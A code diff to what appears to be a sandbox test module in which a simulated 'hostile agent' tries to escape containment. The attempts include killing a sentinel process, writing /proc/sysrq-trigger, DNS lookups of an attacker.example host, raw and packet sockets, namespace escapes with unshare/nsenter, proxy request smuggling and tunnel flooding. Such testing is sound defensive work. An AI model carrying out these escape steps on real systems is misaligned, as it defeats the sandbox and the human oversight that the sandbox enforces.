@@ -1,6 +1,8 @@
 // What a hostile agent tries. Runs inside of the stand-in CLI, with nothing but Node and what it finds on the machine. Each
 // attempt is one point of section 7 of the contract; it returns what it got hold of, or nothing when it failed.
 import { execFileSync, spawn, spawnSync } from "node:child_process";
+import { createSocket } from "node:dgram";
+import { lookup, Resolver } from "node:dns/promises";
 import * as fs from "node:fs";
 import { connect } from "node:net";
 import { dirname, join } from "node:path";
@@ -15,7 +17,7 @@ function shell(command) {
 
 /** Perl that prints what it got hold of; its `call` is a system call that has to succeed. */
 function perl(script) {
-  const prologue = `sub call { my $r = syscall(@_); exit 1 if $r == -1; return $r } my $arm = \`uname -m\` =~ /aarch64/;`;
+  const prologue = `sub call { my $r = syscall(shift, @_); exit 1 if $r == -1; return $r } my $arm = \`uname -m\` =~ /aarch64/;`;
   const done = spawnSync(PERL, ["-e", prologue + script], { encoding: "utf8", timeout: 5_000 });
   return done.status === 0 && done.stdout !== "" ? done.stdout : undefined;
 }
@@ -96,11 +98,6 @@ export function attempts(facts) {
     point(1, "signal it by its number", () => process.kill(facts.sentinelPid, 0) && "it took the signal"),
     point(
       1,
-      "end it by its number",
-      () => process.kill(facts.sentinelPid, "SIGKILL") && "it took the signal",
-    ),
-    point(
-      1,
       "signal the one that started it",
       () => process.kill(process.ppid || 999_999, 0) && "it took the signal",
     ),
@@ -154,7 +151,12 @@ export function attempts(facts) {
     ),
     point(2, "set the clock", () => shell("date --set='1 hour'")),
     point(2, "set the name of the machine", () => shell("hostname hostile && hostname")),
-    point(2, "change a setting of the kernel", () => write("/proc/sys/kernel/core_pattern")),
+    point(2, "change a setting of the kernel", () => {
+      // One of those that a namespace has for itself, and as it is: nothing of the machine changes.
+      const path = "/proc/sys/kernel/msgmax";
+      fs.writeFileSync(path, fs.readFileSync(path));
+      return `wrote ${path}`;
+    }),
     point(2, "press a key of the kernel's", () => write("/proc/sysrq-trigger")),
     ...facts.sockets.map((path) => point(2, `reach ${path}`, () => reachSocket({ path }))),
     ...facts.keys.flatMap(({ description, number, ring }) => [
@@ -282,35 +284,159 @@ export function attempts(facts) {
     ].map((path) => point(4, `write ${path}`, () => write(path))),
     point(4, "write beside the CLI", () => write(join(facts.standIn, "hostile"))),
     point(4, "write to the tool cache", () => write(join(facts.toolCache, "hostile"))),
-    point(
-      4,
-      "write beside the workspace",
-      () => write(join(dirname(facts.workspace), "hostile")) && outsideHas(facts, "beside"),
+    // What is written there is the agent's own; whether it lies on the machine, too, is seen afterwards.
+    ...[facts.temporary, facts.home, dirname(facts.workspace), "/tmp", "/var/tmp", "/dev/shm"].map((folder) =>
+      point(4, `write to ${folder}`, () => {
+        write(join(folder, "hostile"));
+      }),
     ),
+    // Last, as the others go for it, too.
     point(
-      4,
-      "write to the runner's temporary folder",
-      () => write(join(facts.temporary, "hostile")) && outsideHas(facts, "temporary"),
+      1,
+      "end it by its number",
+      () => process.kill(facts.sentinelPid, "SIGKILL") && "it took the signal",
     ),
-    point(
-      4,
-      "write to the home directory",
-      () => write(join(facts.home, "hostile")) && outsideHas(facts, "home"),
-    ),
-    point(4, "write to /tmp", () => write("/tmp/hostile") && outsideHas(facts, "tmp")),
   ];
 }
 
-/** Whether it was written on the machine is seen by the test, afterwards. */
-function outsideHas() {
-  return undefined;
+/** What the proxy answers to the head of a request, and what follows it. */
+function askProxy(head, more = "") {
+  return new Promise((resolve) => {
+    const socket = connect({ host: "127.0.0.1", port: 3128 });
+    let text = "";
+    const end = () => {
+      socket.destroy();
+      resolve(text);
+    };
+    socket.setTimeout(3_000, end);
+    socket.on("error", end).on("close", end);
+    socket.on("data", (bytes) => (text += bytes));
+    socket.write(`${head}\r\n\r\n${more}`);
+  });
 }
 
-/** Tries everything; tells what succeeded. */
-export async function tryAll(facts) {
-  const all = attempts(facts);
+/** It got through when somebody outside has answered. */
+const reached = (answer) =>
+  /reached/.test(answer) || / 200 /.test(answer) ? answer.slice(0, 200) : undefined;
+
+/** @param facts `network`: addresses where somebody listens, and authorities that mean them */
+export function networkAttempts({ network }) {
+  const { addresses, authorities } = network;
+  const point = (name, attempt) => ({ point: "network", name, attempt });
+  const send = (type, address, port) =>
+    new Promise((resolve) => {
+      const socket = createSocket(type);
+      // Whether it has come is seen outside.
+      const end = () => socket.close(() => resolve(undefined));
+      socket.on("error", end);
+      socket.send("hostile", port, address, end);
+    });
+  const looked = async (resolver) => String(await resolver);
+  return [
+    ...addresses.flatMap(({ address, port }) => [
+      point(`TCP to ${address} ${port}`, () => reachSocket({ host: address, port })),
+      point(`UDP to ${address} ${port}`, () => send(address.includes(":") ? "udp6" : "udp4", address, port)),
+    ]),
+    point("the system's resolver", () => looked(lookup("told.attacker.example"))),
+    point("a name server that is known", () => {
+      const resolver = new Resolver({ timeout: 500, tries: 1 });
+      resolver.setServers(["127.0.0.1"]);
+      return looked(resolver.resolve4("told.attacker.example"));
+    }),
+    ...["ICMP over a raw socket:3", "ICMP over a datagram:2"].map((words) => {
+      const [name, type] = words.split(":");
+      return point(name, () =>
+        perl(
+          `use Socket; socket(my $s, AF_INET, ${type}, 1) or exit 1; send($s, pack("CCnnn", 8, 0, 0xf7fe, 1, 0), 0, sockaddr_in(0, inet_aton("127.0.0.1"))) and print "sent"`,
+        ),
+      );
+    }),
+    ...[
+      ["AF_PACKET", 17],
+      ["AF_VSOCK", 40],
+      ["AF_ALG", 38],
+    ].map(([name, family]) =>
+      point(`a socket ${name}`, () => perl(`socket(my $s, ${family}, 2, 0) or exit 1; print "opened"`)),
+    ),
+    point("an abstract socket", () => reachSocket({ path: "\0hostile-machine" })),
+    point("another network", () => shell("unshare --net true || nsenter --target 1 --net true")),
+    point("a route of its own", () => shell("ip link add hostile type dummy || ip route add default dev lo")),
+    ...authorities.flatMap((authority) => [
+      point(`CONNECT ${authority}`, async () =>
+        reached(await askProxy(`CONNECT ${authority} HTTP/1.1\r\nHost: allowed.example:8080`)),
+      ),
+      point(`GET http://${authority}/`, async () =>
+        reached(
+          await askProxy(
+            `GET http://${authority}/ HTTP/1.1\r\nHost: allowed.example:8080\r\nConnection: close`,
+          ),
+        ),
+      ),
+    ]),
+    point("a second request in one connection", async () => {
+      const [, second = ""] = (
+        await askProxy(
+          "GET http://allowed.example:8080/ HTTP/1.1\r\nHost: allowed.example:8080",
+          "GET http://127.0.0.1:8081/ HTTP/1.1\r\nHost: allowed.example:8080\r\nConnection: close\r\n\r\n",
+        )
+      ).split("reached");
+      return / 200 /.test(second) ? second : undefined;
+    }),
+    point("a request behind a CONNECT that was refused", async () =>
+      reached(
+        await askProxy(
+          "CONNECT 127.0.0.1:8081 HTTP/1.1\r\nHost: allowed.example:8080",
+          "GET http://127.0.0.1:8081/ HTTP/1.1\r\nHost: 127.0.0.1:8081\r\n\r\n",
+        ),
+      ),
+    ),
+  ];
+}
+
+const tunnelTo = (port, onSocket) =>
+  new Promise((resolve, reject) => {
+    const socket = connect({ host: "127.0.0.1", port: 3128 });
+    socket.on("error", reject);
+    onSocket(socket, resolve);
+    socket.write(`CONNECT allowed.example:${port} HTTP/1.1\r\nHost: x\r\n\r\n`);
+  });
+
+/** Uses hosts that are allowed. @returns what came of it */
+export async function useAllowed() {
+  const tunnel = await askProxy(
+    "CONNECT Allowed.EXAMPLE.:8080 HTTP/1.1\r\nHost: x",
+    "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+  );
+  const plain = await askProxy("GET http://allowed.example:8080/ HTTP/1.1\r\nHost: x\r\nConnection: close");
+  // Each stays open until all are.
+  const tunnels = await Promise.all(
+    Array.from({ length: 200 }, () =>
+      tunnelTo(8082, (socket, resolve) => {
+        socket.once("data", (bytes) => resolve({ socket, isOpen: / 200 /.test(String(bytes)) }));
+      }),
+    ),
+  );
+  for (const { socket } of tunnels) {
+    socket.destroy();
+  }
+  let bytes = 0;
+  await tunnelTo(8083, (socket, resolve) => {
+    socket.on("data", (chunk) => (bytes += chunk.length)).on("close", resolve);
+  });
+  return {
+    tunnel: /reached/.test(tunnel),
+    plain: /reached/.test(plain),
+    variables: Object.fromEntries(Object.entries(process.env).filter(([name]) => /proxy/i.test(name))),
+    connections: tunnels.filter(({ isOpen }) => isOpen).length,
+    megabytes: Math.floor(bytes / 1e6),
+  };
+}
+
+/** Tries all of them; tells what succeeded. @param names part of the names of those to be tried; none: all */
+export async function tryAll(all, names = []) {
   const succeeded = [];
-  for (const { point, name, attempt } of all) {
+  const chosen = all.filter(({ name }) => names.length === 0 || names.some((part) => name.includes(part)));
+  for (const { point, name, attempt } of chosen) {
     try {
       const got = await attempt();
       if (got !== undefined && got !== false && got !== "") {
@@ -320,7 +446,7 @@ export async function tryAll(facts) {
       // It failed.
     }
   }
-  return { tried: all.length, succeeded };
+  return { tried: chosen.length, succeeded };
 }
 
 /** Leaves behind what would go on after the end, each by another way; they write into `file` as long as they live. */
